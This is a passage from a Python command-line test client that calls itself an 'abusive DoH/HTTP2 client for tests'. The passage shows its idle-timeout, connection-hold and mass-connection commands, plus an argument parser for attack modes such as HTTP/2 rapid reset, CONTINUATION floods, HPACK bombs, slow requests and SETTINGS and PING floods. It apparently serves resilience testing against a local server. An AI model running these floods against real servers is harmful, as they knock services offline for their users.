        while not c.closed and time.monotonic() < end:
            c.recv(end - time.monotonic())
        after = int(((c.closed_at or time.monotonic()) - t) * 1000)
        result("idle proto=h1 status=%s closed=%s after_ms=%d" % (status or "none", "yes" if c.closed else "no", after), c.closed)
    h = open_h2()
    sid, data = h.get_frames("idle." + ARGS.name)
    h.c.send(data)
    st = h.streams[sid]
    h.pump(ARGS.timeout, lambda: st.done or h.ended())
    t = time.monotonic()
    h.pump(ARGS.timeout, lambda: h.c.closed)
    after = int(((h.c.closed_at or time.monotonic()) - t) * 1000)
    g = int((h.goaway[3] - t) * 1000) if h.goaway else -1
    line = "idle proto=h2 %s %s after_ms=%d goaway_ms=%d" % (stream_fields(st), h.fields(), after, g)
    result(line, h.c.closed)


def peer_cn(c):
    if not isinstance(c.sock, ssl.SSLSocket):
        return "none"
    for rdn in c.sock.getpeercert().get("subject", ()):
        for k, v in rdn:
            if k == "commonName":
                return v
    return "none"


def cmd_hold(a):
    h = open_h2()
    sid, data = h.get_frames("hold1." + ARGS.name)
    h.c.send(data)
    st1 = h.streams[sid]
    h.pump(ARGS.timeout, lambda: st1.done or h.ended())
    cn = peer_cn(h.c)
    if a.ready_file:
        open(a.ready_file, "w").close()
    # Stay on the connection (acknowledging PINGs, noticing GOAWAY) until told to go on.
    end = time.monotonic() + ARGS.timeout
    while a.go_file and not os.path.exists(a.go_file) and not h.c.closed and time.monotonic() < end:
        h.pump(0.1)
    sid, data = h.get_frames("hold2." + ARGS.name)
    h.c.send(data)
    st2 = h.streams[sid]
    h.pump(ARGS.timeout, lambda: st2.done or h.ended())
    line = "hold first=%s second=%s cert=%s %s" % (st1.status or "none", st2.status or "none", cn, h.fields())
    result(line, st1.status == "200" and st2.status == "200")


def one_conn(a, i, held):
    """One connection of conns: its outcome (ok, other, closed or silent); the connection
    is left open in held."""
    try:
        if a.proto == "h1":
            c = connect("h1", timeout=a.conn_timeout)
            held.append(c)
            c.send(h1_request(get_path("c%d.conns.%s" % (i, ARGS.name))))
            status, _, _ = h1_read_response(c, a.conn_timeout)
            if status == "200":
                return "ok"
            if status is not None:
                return "other"
            return "closed" if c.closed else "silent"
        h = open_h2(timeout=a.conn_timeout)
        held.append(h.c)
        sid, data = h.get_frames("c%d.conns.%s" % (i, ARGS.name))
        h.c.send(data)
        st = h.streams[sid]
        h.pump(a.conn_timeout, lambda: st.done or h.ended())
        if st.status == "200":
            return "ok"
        if st.status is not None:
            return "other"
        return "closed" if h.ended() or st.done else "silent"
    except (socket.timeout, TimeoutError):
        return "silent"
    except (OSError, ssl.SSLError, ConnectionError) as e:
        log("connection %d: %r" % (i, e))
        return "closed"


def cmd_conns(a):
    # All at once, one thread each, so that the whole takes about --conn-timeout (a server's
    # idle timeout must not free places meanwhile).
    import threading
    n = a.n
    held = []
    outcomes = []
    lock = threading.Lock()

    def run(i):
        r = one_conn(a, i, held)
        with lock:
            outcomes.append(r)

    t0 = time.monotonic()
    threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(ARGS.timeout - (time.monotonic() - t0), 0.1))
    ms = int((time.monotonic() - t0) * 1000)
    with lock:
        got = list(outcomes)
    for c in list(held):
        c.close()
    count = {k: got.count(k) for k in ("ok", "other", "closed", "silent")}
    count["silent"] += n - len(got)  # threads still waiting at the deadline
    result("conns n=%d ok=%d status_other=%d closed=%d silent=%d ms=%d" % (
        n, count["ok"], count["other"], count["closed"], count["silent"], ms), count["ok"] > 0)


def main():
    global ARGS, VERBOSE
    p = argparse.ArgumentParser(description="abusive DoH/HTTP2 client for tests")
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca")
    p.add_argument("--sni", default="upstream.test")
    p.add_argument("--plain", action="store_true")
    p.add_argument("--path", default="/dns-query")
    p.add_argument("--name", default="abuse.bench.test", help="the zone the query names are made in")
    p.add_argument("--authority")
    p.add_argument("--source")
    p.add_argument("--header", action="append", default=[])
    p.add_argument("--timeout", type=float, default=10.0)
    p.add_argument("--no-window-updates", dest="window_updates", action="store_false")
    p.add_argument("-v", "--verbose", action="store_true")
    sub = p.add_subparsers(dest="cmd", required=True)

    s = sub.add_parser("get")
    s.add_argument("qname", nargs="?")
    s.add_argument("--method", default="GET", choices=["GET", "POST"])
    s.add_argument("--id", type=int, default=0)
    s.add_argument("--padding", action="store_true")
    s = sub.add_parser("streams")
    s.add_argument("n", type=int)
    s.add_argument("--ack-settings", action="store_true")
    s.add_argument("--id", type=int, default=0)
    s.add_argument("--distinct-ids", action="store_true")
    s = sub.add_parser("rapid-reset")
    s.add_argument("n", type=int)
    s.add_argument("--distinct", action="store_true")
    s = sub.add_parser("continuation")
    s.add_argument("n", type=int)
    s.add_argument("--frame-size", type=int, default=100)
    s.add_argument("--no-finish", dest="finish", action="store_false")
    s = sub.add_parser("hpack-bomb")
    s.add_argument("--mode", default="table", choices=["table", "list", "resize"])
    s.add_argument("--size", type=int, default=0)
    s.add_argument("--refs", type=int, default=4000)
    s = sub.add_parser("slow")
    s.add_argument("--proto", default="h2", choices=["h2", "h1"])
    s.add_argument("--stage", default="request", choices=["request", "handshake"])
    s.add_argument("--interval", type=float, default=1.0)
    s = sub.add_parser("headers")
    s.add_argument("n", type=int)
    s.add_argument("--proto", default="h2", choices=["h2", "h1"])
    s.add_argument("--value-size", type=int, default=8)
    for kind in ("settings-flood", "ping-flood"):
        s = sub.add_parser(kind)
        s.add_argument("n", type=int)
        s.add_argument("--batch", type=int, default=500)
        s.add_argument("--read-acks", action="store_true")
    s = sub.add_parser("idle")
    s.add_argument("--proto", default="h2", choices=["h2", "h1"])
    s = sub.add_parser("hold")
    s.add_argument("--ready-file")
    s.add_argument("--go-file")
    s = sub.add_parser("conns")
    s.add_argument("n", type=int)
    s.add_argument("--proto", default="h2", choices=["h2", "h1"])
    s.add_argument("--conn-timeout", type=float, default=2.0)

    ARGS = p.parse_args()
    VERBOSE = ARGS.verbose
    if not ARGS.plain and not ARGS.ca:
        p.error("--ca is needed for TLS (or --plain)")
    ARGS.authority = ARGS.authority or (ARGS.sni if not ARGS.plain else "%s:%d" % (ARGS.host, ARGS.port))
    ARGS.header_pairs = []
    for hdr in ARGS.header:
        k, _, v = hdr.partition(":")
        ARGS.header_pairs.append((k.strip().lower(), v.strip()))

    def alarm(_sig, _frm):
        print("%s error=alarm (no outcome within %d s)" % (ARGS.cmd, ARGS.timeout + 20), flush=True)
        os._exit(1)

    signal.signal(signal.SIGALRM, alarm)
    signal.alarm(int(ARGS.timeout) + 20)
    cmds = {"get": cmd_get, "streams": cmd_streams, "rapid-reset": cmd_rapid_reset, "continuation": cmd_continuation,
            "hpack-bomb": cmd_hpack_bomb, "slow": cmd_slow, "headers": cmd_headers,
            "settings-flood": lambda a: cmd_flood(a, "settings"), "ping-flood": lambda a: cmd_flood(a, "ping"),
            "idle": cmd_idle, "hold": cmd_hold, "conns": cmd_conns}
    try:
        cmds[ARGS.cmd](ARGS)
    except (OSError, ssl.SSLError, ConnectionError, hpack.HPACKError) as e:
        result("%s error=%s" % (ARGS.cmd, repr(e).replace(" ", "_")), False)


if __name__ == "__main__":
    main()
